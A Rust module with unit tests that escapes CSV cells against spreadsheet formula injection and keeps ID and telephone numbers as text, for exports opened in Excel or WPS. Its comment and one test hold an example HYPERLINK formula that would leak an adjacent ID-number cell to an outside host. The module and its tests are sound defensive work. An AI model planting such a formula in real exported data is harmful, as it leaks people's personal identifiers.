//! Cells of the CSV files people open in Excel or WPS (the 台账, the
//! summary report): what goes into a cell is shown as data, never run.
//!
//! A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a
//! formula, and some also strip a leading TAB or CR and then do so. A member
//! name such as `=HYPERLINK("http://…?"&E2,"点击")` from a county roster
//! would become a link that sends the next cell (the full ID number) to
//! whoever wrote it. Every CSV writer in bangfu therefore passes each cell
//! through [`text`], [`number`] or [`digits_as_text`], which all rest on one
//! rule ([`escape_formula`], OWASP's): such a cell gets a leading `'`, and
//! the spreadsheet shows it as text, apostrophe included.
//!
//! Long digit strings (ID numbers, telephone numbers) would otherwise be read
//! as numbers: an 18-digit ID number keeps only 15 significant digits
//! (`3.41024198104120E+17`) and a telephone number loses its leading 0. They
//! get the same leading `'`, which Excel and LibreOffice Calc (checked with
//! LibreOffice 7.4 converting the CSV to xlsx: the cell is a string cell
//! holding every digit) read as text. The usual `="341024…"` is a formula
//! itself, and a leading TAB is one of the characters the rule above exists
//! for (it is invisible, and goes along when the number is copied), so
//! neither is used.

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they
/// come first (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The one rule: a cell beginning with `=`, `+`, `-`, `@`, TAB or CR gets a
/// leading `'`, so that it is shown as text and never evaluated.
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A text cell, typically from user or county data (names, villages,
/// addresses): escaped by [`escape_formula`], whatever follows the first
/// character (`-12.00` typed as a name is text too).
pub fn text(cell: &str) -> Cow<'_, str> {
    escape_formula(cell)
}

/// A number bangfu formatted itself (an amount such as `600.00` or
/// `-12.00`, a count): kept as it is, so the spreadsheet sums it, when it is
/// a plain decimal (an optional `-`, digits, an optional `.` and digits);
/// anything else is escaped like [`text`].
pub fn number(cell: &str) -> Cow<'_, str> {
    if is_plain_decimal(cell) {
        Cow::Borrowed(cell)
    } else {
        escape_formula(cell)
    }
}

/// A code made of digits that must stay text (an ID number, a telephone
/// number): all digits gets a leading `'` so that no digit is lost;
/// anything else (a masked ID number `341024********011X`, `0558-1234567`)
/// is already text and is escaped like [`text`].
pub fn digits_as_text(cell: &str) -> Cow<'_, str> {
    if !cell.is_empty() && cell.bytes().all(|b| b.is_ascii_digit()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        escape_formula(cell)
    }
}

fn is_plain_decimal(cell: &str) -> bool {
    let body = cell.strip_prefix('-').unwrap_or(cell);
    let (int, frac) = match body.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (body, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(int) && frac.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_escaped_and_nothing_else() {
        for bad in [
            "=HYPERLINK(\"http://x/?\"&E2,\"点击\")",
            "+1+1",
            "-1+1",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "-12.00",
        ] {
            assert_eq!(text(bad), format!("'{bad}"), "{bad:?}");
        }
        for good in ["程金明", "田心寨村", "", " =1", "1+1", "TXZ-001", "'已转义"] {
            assert_eq!(text(good), good, "{good:?}");
        }
    }

    #[test]
    fn numbers_we_write_stay_numbers() {
        for n in ["600.00", "-12.00", "0", "12", "-3"] {
            assert_eq!(number(n), n);
        }
        for bad in ["-1+1", "=1", "-", "-.5", "+5", "@1"] {
            assert_eq!(number(bad), format!("'{bad}"), "{bad:?}");
        }
        // Not a plain decimal, but not a formula either: left as it is.
        assert_eq!(number("1e3"), "1e3");
    }

    #[test]
    fn digit_codes_are_text() {
        assert_eq!(digits_as_text("341024198104120119"), "'341024198104120119");
        assert_eq!(digits_as_text("05581234567"), "'05581234567");
        assert_eq!(digits_as_text("34102419810412011X"), "34102419810412011X");
        assert_eq!(digits_as_text("341024********011X"), "341024********011X");
        assert_eq!(digits_as_text(""), "");
        assert_eq!(digits_as_text("+8613800000000"), "'+8613800000000");
    }
}
